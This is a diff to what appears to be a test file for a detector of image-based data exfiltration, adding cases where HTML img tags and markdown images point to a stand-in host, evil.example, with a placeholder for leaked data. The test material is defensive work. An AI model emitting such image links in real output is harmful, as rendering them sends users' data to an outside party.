@@ -104,6 +104,16 @@ describe('a hole in the address of a picture', () => {
     expect(isFilled(`https://evil.example/?${far(25)}=`)).toBe(false)
   })
 
+  test('is found in a tag in any case, and in a text of up to 120 units', () => {
+    for (const tag of ['<img src=', '<IMG SRC=', "<Img alt='x' src = '"])
+      expect(spansOf('exfiltration', `${tag}https://evil.example/{y}`)).toEqual([
+        `${tag}https://evil.example/{y}`,
+      ])
+    expect(spansOf('exfiltration', `![${far(120)}](https://evil.example/{y})`)).toHaveLength(1)
+    expect(spansOf('exfiltration', `![${far(121)}](https://evil.example/{y})`)).toEqual([])
+    expect(spansOf('exfiltration', '![a]b](https://evil.example/{y})')).toEqual([])
+  })
+
   test('of several pictures each is read, however far the others reach', () => {
     const hole = '![x](https://evil.example/{y})'
     expect(spansOf('exfiltration', `![ ![ ${hole} ![a](https://ok.example/) ${hole}`)).toHaveLength(4)
